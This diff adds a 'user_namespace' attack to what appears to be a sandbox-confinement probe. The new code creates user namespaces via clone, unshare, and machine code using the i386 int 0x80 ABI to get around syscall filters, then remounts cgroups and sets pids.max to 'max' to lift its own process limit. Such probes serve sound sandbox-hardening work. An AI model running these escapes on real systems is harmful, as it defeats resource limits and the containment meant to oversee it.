@@ -192,6 +192,66 @@ def inotify_hoard():
     say(f"inotify: took {len(held)} instances")
 
 
+# unshare(CLONE_NEWUSER) through the i386 ABI (int 0x80), as x86-64 machine code:
+# push rbx; mov eax, 310; mov ebx, 0x10000000; int 0x80; pop rbx; ret.
+I386_UNSHARE_USER = bytes.fromhex("53b836010000bb00000010cd805bc3")
+CLONE_NEWNS, CLONE_NEWCGROUP, CLONE_NEWUSER = 0x20000, 0x02000000, 0x10000000
+
+
+def i386_call(code):
+    """Run x86-64 machine code that makes an i386 system call; its result (negative: -errno)."""
+    import mmap
+
+    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    page.write(code)
+    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
+
+
+def lift_own_limits():
+    """In a user namespace of its own, with its own cgroup and mount
+    namespaces, mount the cgroup file systems afresh and raise its own process limit."""
+    libc = ctypes.CDLL(None, use_errno=True)  # no uid map needed: the files see it as uid 0 still
+    if libc.unshare(CLONE_NEWNS | CLONE_NEWCGROUP) != 0:
+        say(f"cgroup namespace: {os.strerror(ctypes.get_errno())}")
+        return
+    for fs, options in (("cgroup2", None), ("cgroup", b"pids")):
+        where = os.path.join(os.environ["HOME"], fs)
+        os.makedirs(where, exist_ok=True)
+        if libc.mount(b"none", where.encode(), fs.encode(), 0, options) != 0:
+            continue
+        limit = os.path.join(where, "pids.max")
+        if os.path.exists(limit):
+            with open(limit, "w") as f:
+                f.write("max")
+            say(f"lifted its {fs} pids.max")
+
+
+def user_namespace():
+    """Make a user namespace (no capability needed), through clone, the i386 ABI and unshare;
+    then use it to lift its own limits."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    clone = {"x86_64": 56, "aarch64": 220}[os.uname().machine]
+    child = libc.syscall(clone, CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
+    if child == 0:
+        os._exit(0)
+    say("clone user namespace: " + ("made" if child > 0 else os.strerror(ctypes.get_errno())))
+    if child > 0:
+        os.waitpid(child, 0)
+    if os.uname().machine == "x86_64":
+        child = os.fork()
+        if child == 0:  # in a child: the namespace it makes would be this process's
+            result = i386_call(I386_UNSHARE_USER)
+            say("i386 unshare user namespace: " + ("made" if result == 0 else os.strerror(-result)))
+            os._exit(0)
+        os.waitpid(child, 0)
+    if libc.unshare(CLONE_NEWUSER) != 0:
+        say(f"unshare user namespace: {os.strerror(ctypes.get_errno())}")
+        return
+    say("unshare user namespace: made")
+    lift_own_limits()
+
+
 def machine_ipc():
     """Reach the machine's services through its filesystem, which it sees read-only: connect to
     a unix socket (a tournament's forkserver, docker.sock), write into a FIFO (/run/initctl),
@@ -249,6 +309,7 @@ ATTACKS = {
     "keyring": keyring,
     "inotify_hoard": inotify_hoard,
     "machine_ipc": machine_ipc,
+    "user_namespace": user_namespace,
 }
 
 sys.stdin.readline()  # the start number
